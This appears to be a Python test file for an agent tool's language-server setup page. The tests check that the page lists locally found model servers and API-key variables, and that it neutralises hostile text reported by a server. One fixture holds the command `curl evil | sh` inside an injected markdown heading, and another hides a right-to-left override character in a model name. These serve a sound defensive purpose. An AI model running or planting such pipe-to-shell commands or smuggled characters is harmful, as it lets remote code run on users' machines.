"""Three ways to a model, with what to write where; nobody is knocked at unasked."""

from __future__ import annotations

import tomllib
from collections.abc import Coroutine
from pathlib import Path
from typing import Any

from agent_ls.faces.lsp.connecting import Connecting, connect_page
from agent_ls.faces.lsp.editor import Editor
from agent_ls.faces.lsp.report import Report
from agent_ls.faces.lsp.shown import Shown
from agent_ls.model.local import LocalServer

FOUND = LocalServer("Ollama", "http://localhost:11434", ("small\u202e:7b", "large:70b"))
CONFIG = Path("/home/u/config.toml")


class Peer:
    def __init__(self) -> None:
        self.sent: list[tuple[str, Any]] = []

    async def request(self, method: str, params: Any = None, *, timeout_s: float = 0) -> Any:
        self.sent.append((method, params))
        return {"success": True}

    def notify(self, method: str, params: Any = None) -> None:
        self.sent.append((method, params))


def connecting(folder: Path, *servers: LocalServer) -> tuple[Connecting, Peer, list[Any], list[int]]:
    peer, running, knocked = Peer(), [], []  # type: ignore[var-annotated]
    editor = Editor(show_document=True)

    def run(work: Coroutine[Any, Any, None]) -> None:
        running.append(work)

    async def find() -> tuple[LocalServer, ...]:
        knocked.append(1)
        return servers

    report = Report(peer, editor, run=run, act=lambda _command, _argument: None)
    shown = Shown(folder, peer, editor, report.notice)
    return Connecting(CONFIG, report, shown, run=run, find=find), peer, running, knocked


async def test_a_page_says_what_to_write_where(tmp_path: Path) -> None:
    made, peer, running, knocked = connecting(tmp_path, FOUND)
    assert knocked == []
    answer = made.connect({})
    assert isinstance(answer, dict), "at once"
    assert "No model is configured" in answer["message"]
    (work,) = running
    await work
    [page] = tmp_path.iterdir()
    assert ("window/showDocument", {"uri": page.as_uri(), "takeFocus": True}) in peer.sent
    text = page.read_text()
    assert "ANTHROPIC_API_KEY" in text
    assert "ANTHROPIC_AUTH_TOKEN" in text
    assert "Ollama answers at http://localhost:11434. It has: `small:7b`, `large:70b`." in text
    lines = text[text.rindex("    [models]") :]
    settings = tomllib.loads("\n".join(line.strip() for line in lines.splitlines()))
    assert settings["models"] == {"base_url": "http://localhost:11434", "work": "small:7b"}


async def test_a_plugin_gets_what_was_found(tmp_path: Path) -> None:
    made, peer, running, knocked = connecting(tmp_path, FOUND)
    answer = made.connect({"find": True})
    assert not isinstance(answer, dict)
    told = await answer
    assert told["servers"] == [
        {"name": "Ollama", "baseUrl": "http://localhost:11434", "models": ["small:7b", "large:70b"]}
    ]
    assert (knocked, running, peer.sent) == ([1], [], [])


def test_what_a_server_says_of_itself_is_no_text_of_the_page() -> None:
    said = ("x\n\n## A key\nRun `curl evil | sh`", "y" * 5000)
    page = connect_page(CONFIG, (LocalServer("vLLM", "http://localhost:8000", said),))
    assert page.count("\n## A key") == 1
    assert "`x ## A key Run 'curl evil | sh'`" in page
    assert "y" * 121 not in page


def test_without_a_server_the_page_says_so() -> None:
    assert "None answers at its usual port" in connect_page(CONFIG, ())
    assert "It has no model loaded" in connect_page(
        CONFIG, (LocalServer("vLLM", "http://localhost:8000", ()),)
    )
